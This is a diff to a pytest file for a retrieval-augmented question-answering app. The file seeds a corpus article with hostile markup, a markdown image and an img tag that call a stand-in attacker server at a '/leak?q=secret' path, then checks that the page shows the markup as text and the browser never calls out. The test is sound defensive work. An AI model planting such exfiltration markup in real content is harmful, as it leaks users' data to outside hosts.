@@ -53,8 +53,8 @@ def app_url(tmp_path, attacker):
     shutil.copytree(SEEDS, corpus)
     (corpus / "venue.txt").write_text(
         "Summit venue report\n\nHungarian officials inspected the Budapest summit venue on Monday and found it "
-        f"ready. ![pixel](http://127.0.0.1:{attacker}/leak?q=secret) "
-        f'<img src="http://127.0.0.1:{attacker}/img"> :red[ALERT] '
+        f"ready. The page showed ![pixel](http://127.0.0.1:{attacker}/leak?q=secret) "
+        f'<img src="http://127.0.0.1:{attacker}/img"> :red[ALERT] as its banner. '
         "Officials said the venue inspection was completed before the cancellation was announced.\n")
     port = free_port()
     env = {**os.environ, "RAG_DATA_DIR": str(tmp_path / "data"), "RAG_CORPUS_DIR": str(corpus),
@@ -108,7 +108,7 @@ def test_reader_asks_checks_a_citation_and_nothing_hostile_loads(app_url, attack
         body, text = page.content(), page.inner_text("body").replace("\u2060", "")  # joiners keep URLs unlinked
         page.screenshot(path=str(SCREENSHOTS / "hostile.png"), full_page=True)
         browser.close()
-    assert f"![pixel](http://127.0.0.1:{attacker}/leak?q=secret)" in text, "the hostile markup is shown as text"
+    assert f"![pixel](http://127.0.0.1:{attacker}/leak?q=secret)" in text, "the hostile markup is shown as text (in the quote's paragraph: a sentence with a link is never quoted)"
     assert ":red[ALERT]" in text and "<img src=" in text
     assert f'src="http://127.0.0.1:{attacker}' not in body and f'href="http://127.0.0.1:{attacker}' not in body
     assert _Attacker.hits == [], "an article's image or link made the browser call out"
